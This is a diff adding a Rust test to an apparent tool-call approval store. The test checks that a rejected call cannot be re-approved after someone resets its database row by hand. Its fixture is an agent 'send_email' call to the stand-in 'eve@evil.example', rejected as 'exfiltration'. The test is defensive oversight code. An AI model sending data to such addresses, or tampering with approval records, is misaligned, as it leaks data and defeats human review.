@@ -254,3 +254,50 @@ async fn an_abandoned_claim_ends_failed() {
     );
     store.verify_chain(None).await.unwrap();
 }
+
+/// A rejected call whose row a hand set back to held is not decided again: the chain
+/// already holds its decision, and a later approval, even a trusted reviewer's, is refused.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_decided_call_set_back_to_held_is_not_decided_again() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("store.db");
+    let store = Store::open(&Location::Sqlite(path.clone()), common::test_options())
+        .await
+        .unwrap();
+    let queued = store
+        .hold(&common::held(
+            "send_email",
+            r#"{"to":"eve@evil.example"}"#,
+            "default",
+            "support",
+            "agent",
+        ))
+        .await
+        .unwrap();
+    common::decide_as(&store, &queued.id, "lead", false, "exfiltration")
+        .await
+        .unwrap();
+    let pool = sqlx::SqlitePool::connect(&format!("sqlite://{}", path.display()))
+        .await
+        .unwrap();
+    sqlx::query(sqlx::AssertSqlSafe(format!(
+        "UPDATE pending_call SET status = 'held', decided_by = NULL WHERE id = '{}'",
+        queued.id
+    )))
+    .execute(&pool)
+    .await
+    .unwrap();
+    let again = common::decide_as(&store, &queued.id, "rita", true, "looks fine").await;
+    assert!(
+        matches!(
+            again,
+            Err(tooltrust_store::DecideError::AlreadyDecided {
+                status: HeldStatus::Rejected,
+                ..
+            })
+        ),
+        "{again:?}"
+    );
+    let binding = store.get(&queued.id).await.unwrap().unwrap().binding();
+    assert!(store.claim_to_run(&queued.id, &binding).await.is_err());
+}
